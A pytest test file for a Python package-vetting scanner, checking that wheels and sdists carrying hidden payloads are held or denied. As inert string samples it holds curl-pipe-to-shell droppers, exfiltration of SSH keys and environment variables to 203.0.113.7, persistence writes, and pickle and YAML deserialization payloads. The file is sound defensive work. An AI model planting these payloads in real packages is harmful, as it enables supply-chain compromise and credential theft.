"""Payloads that run with no import of the package written anywhere (ADR 0063): the hooks
of a plugin a host program loads by itself (pytest, setuptools), a wheel's command files,
and a command a loop over a written-out list spells. Each sample is inert (a command
``id``, a host 203.0.113.7, never run) and each was allowed before."""

from __future__ import annotations

import marshal
from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

RUN = "os.system('id')"
INFO = "evpkg-1.0.dist-info"


def _vet_wheel(files: Mapping[str, str | bytes]) -> Outcome:
    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", dict(files))).verdict


def _worst(findings: list[PackageFinding]) -> Severity:
    return max((f.severity for f in findings), default=Severity.LOW)


PLUGINS = {
    # pytest imports every pytest11 plugin and calls its hooks on each run.
    "pytest-hook": (
        "[pytest11]\nev = evpkg.plug\n",
        f"import os\n\n\ndef pytest_configure(config):\n    {RUN}\n",
    ),
    # setuptools calls these in every build in the environment.
    "setuptools-finalize": (
        "[setuptools.finalize_distribution_options]\nev = evpkg.plug:finalize\n",
        f"import os\n\n\ndef finalize(dist):\n    {RUN}\n",
    ),
    "egg-info-writer": (
        "[egg_info.writers]\nev.txt = evpkg.plug:write\n",
        f"import os\n\n\ndef write(cmd, basename, filename):\n    {RUN}\n",
    ),
}


@pytest.mark.parametrize("key", sorted(PLUGINS))
def test_a_plugin_hook_a_host_calls_by_itself_holds(key: str) -> None:
    entry_points, module = PLUGINS[key]
    files = {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/plug.py": module,
        f"{INFO}/entry_points.txt": entry_points,
    }
    assert _vet_wheel(files) is not Outcome.ALLOW


def test_a_plugin_hook_declared_after_many_repeats_of_another_target_holds() -> None:
    # Repeats of one harmless target once used up the bound on entry points followed, so a
    # hook declared after them was never read.
    repeats = "".join(f"tidy{i} = evpkg.tidy:finalize\n" for i in range(40))
    entry_points, module = PLUGINS["setuptools-finalize"]
    group, target = entry_points.splitlines()
    files = {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/tidy.py": "def finalize(dist):\n    return dist\n",
        "evpkg/plug.py": module,
        f"{INFO}/entry_points.txt": f"{group}\n{repeats}{target}\n",
    }
    assert _vet_wheel(files) is not Outcome.ALLOW


def test_a_console_script_and_a_plugin_function_no_hook_names_stay_allowed() -> None:
    """A person runs a console script; pytest calls only ``pytest_*`` functions."""
    files = {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/cli.py": f"import os\n\n\ndef main():\n    {RUN}\n",
        "evpkg/plug.py": f"import os\n\n\ndef helper():\n    {RUN}\n",
        f"{INFO}/entry_points.txt": (
            "[console_scripts]\nevpkg = evpkg.cli:main\n[pytest11]\nev = evpkg.plug\n"
        ),
    }
    assert _vet_wheel(files) is Outcome.ALLOW


def test_a_plugin_of_a_group_no_host_loads_on_its_own_stays_allowed() -> None:
    files = {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/plug.py": f"import os\n\n\ndef extract(f):\n    {RUN}\n",
        f"{INFO}/entry_points.txt": "[babel.extractors]\nev = evpkg.plug:extract\n",
    }
    assert _vet_wheel(files) is Outcome.ALLOW


COMMAND_FILES = {
    # Installed on the PATH as ``pip``: typing pip runs it.
    "shadows-pip": ("pip", "#!python\nimport os\nos.system('id')\n"),
    "shell-dropper": ("evtool", "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"),
    "python-exfiltration": (
        "evtool",
        (
            "#!python\nimport os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/', "
            "data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
        ),
    ),
}


@pytest.mark.parametrize("key", sorted(COMMAND_FILES))
def test_a_wheels_command_file_is_read(key: str) -> None:
    name, text = COMMAND_FILES[key]
    files = {"evpkg/__init__.py": "x = 1\n", f"evpkg-1.0.data/scripts/{name}": text}
    assert _vet_wheel(files) is not Outcome.ALLOW


def test_a_command_file_that_starts_the_packages_own_main_stays_allowed() -> None:
    text = "#!python\nimport sys\nfrom evpkg.cli import main\nsys.exit(main())\n"
    files = {"evpkg/__init__.py": "x = 1\n", "evpkg-1.0.data/scripts/evtool": text}
    assert _vet_wheel(files) is Outcome.ALLOW


LOOPS = {
    "comprehension": "import os\n[os.system(c) for c in ['id']]\n",
    "for": "import os\nfor c in ['id']:\n    os.system(c)\n",
    "generator": "import os\nlist(os.system(c) for c in ('id',))\n",
}


@pytest.mark.parametrize("key", sorted(LOOPS))
def test_a_command_a_loop_over_a_written_out_list_spells_holds(key: str) -> None:
    assert _worst(scan_python("evpkg/__init__.py", LOOPS[key])) >= Severity.HIGH


def test_a_loop_over_build_tools_stays_below_a_hold() -> None:
    source = "import os\nfor c in ['make', 'make install']:\n    os.system(c)\n"
    assert _worst(scan_python("setup.py", source, install_time=True)) < Severity.HIGH


# Calls that run a function or source text they are given, and a module's names read
# through ``vars``: each runs the command on import.
HANDED = {
    "sorted-key": "import os\nsorted(['id'], key=os.system)\n",
    "max-key-function": "import os\n\n\ndef f(c):\n    os.system(c)\n\n\nmax(['id'], key=f)\n",
    "filter": "import os\nlist(filter(os.system, ['id']))\n",
    "map-lambda": "import os\nlist(map(lambda c: os.system(c), ['id']))\n",
    "interactive-interpreter": (
        "import code\ncode.InteractiveInterpreter().runsource(\"__import__('os').system('id')\")\n"
    ),
    "interactive-console": (
        "import code\nc = code.InteractiveConsole()\nc.push(\"__import__('os').system('id')\")\n"
    ),
    "vars-of-a-module": "import os\nvars(os)['system']('id')\n",
    "cffi-libc": (
        "from cffi import FFI\nffi = FFI()\nffi.cdef('int system(const char *);')\n"
        "ffi.dlopen(None).system(b'id')\n"
    ),
    "compiled-tree": (
        "import ast\nexec(compile(ast.parse(\"import os; os.system('id')\"), 'x', 'exec'))\n"
    ),
}

HANDED_QUIET = {
    "sorted-by-len": "xs = ['b', 'a']\nys = sorted(xs, key=len)\n",
    "map-lambda-pure": "xs = list(map(lambda c: c.upper(), ['a']))\n",
    "parsed-tree-only": "import ast\nt = ast.parse(\"import os; os.system('id')\")\n",
    "vars-of-a-class": "class A:\n    x = 1\n\n\nv = vars(A)['x']\n",
}


@pytest.mark.parametrize("key", sorted(HANDED))
def test_a_sink_handed_to_a_runner_holds(key: str) -> None:
    assert _worst(scan_python("evpkg/__init__.py", HANDED[key])) >= Severity.HIGH


@pytest.mark.parametrize("key", sorted(HANDED_QUIET))
def test_the_same_runners_handed_nothing_that_acts_stay_below_a_hold(key: str) -> None:
    assert _worst(scan_python("evpkg/__init__.py", HANDED_QUIET[key])) < Severity.HIGH


@pytest.mark.parametrize("name", ["../../.bashrc", "/etc/profile.d/ev.sh"])
def test_a_member_whose_path_escapes_the_install_folder_denies(name: str) -> None:
    # It held (ADR 0063) until ADR 0167: an absolute or climbing path is made to escape.
    files = {"evpkg/__init__.py": "x = 1\n", name: "curl http://203.0.113.7/x | sh\n"}
    assert _vet_wheel(files) is Outcome.DENY


# A data file run as code through a reader imported under another name.
READERS = {
    "files-imported-by-name": (
        "from importlib.resources import files\n"
        "exec(files(__name__).joinpath('blob.txt').read_text())\n"
    ),
    "resources-module-aliased": (
        "import importlib.resources as r\n"
        "exec(r.files(__package__).joinpath('blob.txt').read_text())\n"
    ),
    "pkgutil-aliased": "import pkgutil as p\nexec(p.get_data(__name__, 'blob.txt'))\n",
}


@pytest.mark.parametrize("key", sorted(READERS))
def test_a_data_file_run_through_a_reader_imported_under_another_name_holds(key: str) -> None:
    files = {"evpkg/__init__.py": READERS[key], "evpkg/blob.txt": "import os; os.system('id')\n"}
    assert _vet_wheel(files) is not Outcome.ALLOW


# Files written on import that let someone in or change what runs later: each denies.
PLANTED = {
    "ssh-authorized-key": (
        "import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
        "    f.write('ssh-ed25519 AAAA attacker')\n"
    ),
    "pip-index": (
        "import os\nwith open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as f:\n"
        "    f.write('[global]\\nindex-url = http://203.0.113.7/simple')\n"
    ),
    "git-hooks": (
        "import os\nwith open(os.path.expanduser('~/.gitconfig'), 'a') as f:\n"
        "    f.write('[core]\\nhooksPath = /tmp/h')\n"
    ),
    "user-service": (
        "import pathlib\n(pathlib.Path.home() / '.config/systemd/user/ev.service')"
        ".write_text('[Service]\\nExecStart=/tmp/x')\n"
    ),
    "pth-in-site-packages": (
        "import site\nopen(site.getsitepackages()[0] + '/ev.pth', 'w').write('import ev_boot')\n"
    ),
    "pth-in-purelib": (
        "import sysconfig\n"
        "open(sysconfig.get_paths()['purelib'] + '/ev.pth', 'w').write('import ev_boot')\n"
    ),
    "usercustomize": (
        "import os, site\np = os.path.join(site.getusersitepackages(), 'usercustomize.py')\n"
        "open(p, 'w').write('import ev_boot')\n"
    ),
    "copied-to-autostart": (
        "import os, shutil\nshutil.copy(os.path.join(os.path.dirname(__file__), 'x.sh'), "
        "os.path.expanduser('~/.config/autostart/x.sh'))\n"
    ),
}

PLANTED_QUIET = {
    "header-in-include": (
        "import os, sysconfig\n"
        "open(os.path.join(sysconfig.get_paths()['include'], 'x.h'), 'w').write('x')\n"
    ),
    "copy-into-build": "import shutil\nshutil.copy('a.txt', 'build/a.txt')\n",
    "pip-conf-read": (
        "import os\nwith open(os.path.expanduser('~/.config/pip/pip.conf')) as f:\n"
        "    text = f.read()\n"
    ),
}


@pytest.mark.parametrize("key", sorted(PLANTED))
def test_a_file_planted_on_import_that_changes_what_runs_later_denies(key: str) -> None:
    assert _worst(scan_python("evpkg/__init__.py", PLANTED[key])) is Severity.CRITICAL


@pytest.mark.parametrize("key", sorted(PLANTED_QUIET))
def test_writes_and_reads_that_plant_nothing_stay_below_a_hold(key: str) -> None:
    assert _worst(scan_python("evpkg/__init__.py", PLANTED_QUIET[key])) < Severity.HIGH


# ``os.system('id')`` as a protocol 2 pickle (inert bytes, never unpickled).
PICKLED = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
HERE = "os.path.join(os.path.dirname(__file__), {!r})"

DATA_RUN: dict[str, tuple[str, str, bytes]] = {
    # A pickle under a data name, unpickled on import.
    "pickle-named-as-data": (
        "import os, pickle\npickle.load(open(" + HERE.format("cfg.dat") + ", 'rb'))\n",
        "cfg.dat",
        PICKLED,
    ),
    # Bytecode kept in a file and run on import.
    "marshalled-code-file": (
        "import marshal, os\nexec(marshal.load(open(" + HERE.format("c.bin") + ", 'rb')))\n",
        "c.bin",
        marshal.dumps(compile("import os\nos.system('id')\n", "x", "exec")),
    ),
    "yaml-python-tag": (
        "import os, yaml\nyaml.unsafe_load(open(" + HERE.format("c.yml") + "))\n",
        "c.yml",
        b"!!python/object/apply:os.system ['id']\n",
    ),
    "jsonpickle-function": (
        "import jsonpickle, os\njsonpickle.decode(open(" + HERE.format("c.json") + ").read())\n",
        "c.json",
        b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}',
    ),
}


@pytest.mark.parametrize("key", sorted(DATA_RUN))
def test_code_kept_in_a_data_file_under_another_name_holds(key: str) -> None:
    init, name, data = DATA_RUN[key]
    assert _vet_wheel({"evpkg/__init__.py": init, f"evpkg/{name}": data}) is not Outcome.ALLOW


def test_data_that_only_looks_like_a_pickle_or_a_yaml_tag_stays_allowed() -> None:
    files: dict[str, str | bytes] = {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/blob.dat": b"\x80\x03" + bytes(range(256)) + b".",
        "evpkg/c.yml": b"point: !!python/tuple [1, 2]\nname: !!python/name:builtins.set\n",
    }
    assert _vet_wheel(files) is Outcome.ALLOW


def _shifted(text: str) -> tuple[str, str, str]:
    """``text`` with every printable character moved one place, and the two alphabets."""
    plain = "".join(chr(c) for c in range(32, 127))
    moved = plain[1:] + plain[:1]
    return text.translate(str.maketrans(plain, moved)), moved, plain


def test_code_under_a_substitution_cipher_is_read() -> None:
    hidden, moved, plain = _shifted("import os; os.system('id')")
    source = f"exec({hidden!r}.translate(str.maketrans({moved!r}, {plain!r})))\n"
    assert _worst(scan_python("evpkg/__init__.py", source)) >= Severity.HIGH
    table = f"bytes.maketrans({moved.encode()!r}, {plain.encode()!r})"
    raw = f"exec({hidden.encode()!r}.translate({table}))\n"
    assert _worst(scan_python("evpkg/__init__.py", raw)) >= Severity.HIGH


SDIST_DECLARATIONS = {
    "pyproject": ("pyproject.toml", '[project.entry-points.pytest11]\nev = "evpkg.plug"\n'),
    "setup-cfg": ("setup.cfg", "[options.entry_points]\npytest11 =\n    ev = evpkg.plug\n"),
    "setup-py": (
        "setup.py",
        "from setuptools import setup\nsetup(entry_points={'pytest11': ['ev = evpkg.plug']})\n",
    ),
}


@pytest.mark.parametrize("key", sorted(SDIST_DECLARATIONS))
def test_an_sdists_plugin_hook_holds_wherever_it_is_declared(key: str) -> None:
    name, text = SDIST_DECLARATIONS[key]
    files = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/plug.py": f"import os\n\n\ndef pytest_configure(config):\n    {RUN}\n",
        name: text,
    }
    assert vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict is not Outcome.ALLOW


ENV = "str(dict(os.environ)).encode()"
CHANNELS = {
    "xmlrpc": (
        "import os, xmlrpc.client\n"
        "xmlrpc.client.ServerProxy('http://203.0.113.7/').put(str(dict(os.environ)))\n"
    ),
    "opener": (
        "import os, urllib.request\n"
        f"urllib.request.build_opener().open('http://203.0.113.7/', {ENV})\n"
    ),
    "telnet": f"import os, telnetlib\ntelnetlib.Telnet('203.0.113.7').write({ENV})\n",
    "multiprocessing-client": (
        "import os\nfrom multiprocessing.connection import Client\n"
        "Client(('203.0.113.7', 6000)).send(dict(os.environ))\n"
    ),
    "websocket": (
        "import os, websocket\n"
        "websocket.create_connection('ws://203.0.113.7/').send(str(dict(os.environ)))\n"
    ),
    "ssh": (
        "import os, paramiko\nc = paramiko.SSHClient()\nc.connect('203.0.113.7')\n"
        "c.exec_command('echo ' + str(dict(os.environ)))\n"
    ),
}


@pytest.mark.parametrize("key", sorted(CHANNELS))
def test_the_environment_sent_through_another_client_denies(key: str) -> None:
    assert _worst(scan_python("evpkg/__init__.py", CHANNELS[key])) is Severity.CRITICAL


def test_a_client_made_with_no_host_on_import_is_not_traffic() -> None:
    source = "import urllib.request\nurllib.request.install_opener(urllib.request.build_opener())\n"
    assert _worst(scan_python("evpkg/__init__.py", source)) < Severity.HIGH


def test_an_event_loops_subprocess_on_import_holds() -> None:
    source = (
        "import asyncio\nloop = asyncio.new_event_loop()\n"
        "loop.run_until_complete(loop.subprocess_shell(asyncio.SubprocessProtocol, 'id'))\n"
    )
    assert _worst(scan_python("evpkg/__init__.py", source)) >= Severity.HIGH


def test_a_flake8_checkers_run_holds() -> None:
    files = {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/plug.py": (
            "import os\n\n\nclass Checker:\n    def __init__(self, tree):\n"
            "        self.tree = tree\n\n"
            f"    def run(self):\n        {RUN}\n        return []\n"
        ),
        f"{INFO}/entry_points.txt": "[flake8.extension]\nEV = evpkg.plug:Checker\n",
    }
    assert _vet_wheel(files) is not Outcome.ALLOW


def test_a_server_started_on_import_holds_and_one_a_function_starts_does_not() -> None:
    serve = (
        "import http.server, os, threading\nos.chdir(os.path.expanduser('~'))\n"
        "s = http.server.HTTPServer(('0.0.0.0', 8000), http.server.SimpleHTTPRequestHandler)\n"
        "threading.Thread(target=s.serve_forever, daemon=True).start()\n"
    )
    assert _worst(scan_python("evpkg/__init__.py", serve)) >= Severity.HIGH
    later = (
        "import http.server\n\n\ndef main():\n"
        "    http.server.HTTPServer(('', 8000), http.server.SimpleHTTPRequestHandler)\n"
    )
    assert _worst(scan_python("evpkg/__init__.py", later)) < Severity.HIGH


def test_a_build_requirement_fetched_from_a_url_holds() -> None:
    pyproject = (
        '[build-system]\nrequires = ["setuptools", "helper @ https://example.invalid/h.whl"]\n'
        'build-backend = "setuptools.build_meta"\n'
    )
    files = {"pyproject.toml": pyproject, "evpkg/__init__.py": "x = 1\n"}
    assert vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict is Outcome.HOLD
    plain = pyproject.replace(', "helper @ https://example.invalid/h.whl"', "")
    files = {"pyproject.toml": plain, "evpkg/__init__.py": "x = 1\n"}
    assert vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict is Outcome.ALLOW
